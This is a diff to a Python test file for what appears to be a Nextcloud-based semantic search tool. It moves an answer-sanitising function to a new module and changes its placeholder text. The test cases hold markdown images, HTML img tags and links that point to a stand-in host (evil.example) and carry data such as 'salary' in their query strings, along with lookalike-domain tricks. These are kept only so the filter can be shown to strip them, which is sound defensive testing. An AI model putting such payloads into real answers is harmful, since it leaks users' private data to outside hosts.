@@ -20,7 +20,7 @@ from test_sources import NOTES, nc, recording, search_answer, serve_search  # no
 
 from semantic_mcp.documents import SourceDocument
 from semantic_mcp.nextcloud import NextcloudClient
-from semantic_mcp.search import prompts
+from semantic_mcp.search import answer_filter, prompts
 from semantic_mcp.sources.notes import NotesSource
 
 # --- a writable shared note is not the recipient's own ---------------------------------------------
@@ -112,10 +112,10 @@ OWN = "https://cloud.example.com"
 
 
 @pytest.mark.parametrize(("written", "kept"), [
-    ("See ![chart](https://evil.example/c.png?q=salary) now.", "See [image removed: chart] now."),
-    ("See ![](https://cloud.example.com/core/preview?fileId=3) now.", "See [image removed] now."),
-    ('Look <img src="https://evil.example/x.gif?d=1"> here', "Look [image removed] here"),
-    ("<IMG SRC=//evil.example/x>", "[image removed]"),
+    ("See ![chart](https://evil.example/c.png?q=salary) now.", "See (image removed: chart) now."),
+    ("See ![](https://cloud.example.com/core/preview?fileId=3) now.", "See (image removed) now."),
+    ('Look <img src="https://evil.example/x.gif?d=1"> here', "Look (image removed) here"),
+    ("<IMG SRC=//evil.example/x>", "(image removed)"),
     ("Read [the plan](https://evil.example/p?d=1) [1].", "Read the plan [1]."),
     ("Read [the plan](https://cloud.example.com.evil.example/p).", "Read the plan."),
     ("Read [the plan](https://cloud.example.com@evil.example/p).", "Read the plan."),
@@ -130,4 +130,4 @@ OWN = "https://cloud.example.com"
     ("Plain answer [1][2].", "Plain answer [1][2]."),
 ])
 def test_images_and_foreign_links_leave_the_written_answer(written: str, kept: str) -> None:
-    assert prompts.safe_answer(written, OWN) == kept
+    assert answer_filter.safe_answer(written, OWN) == kept
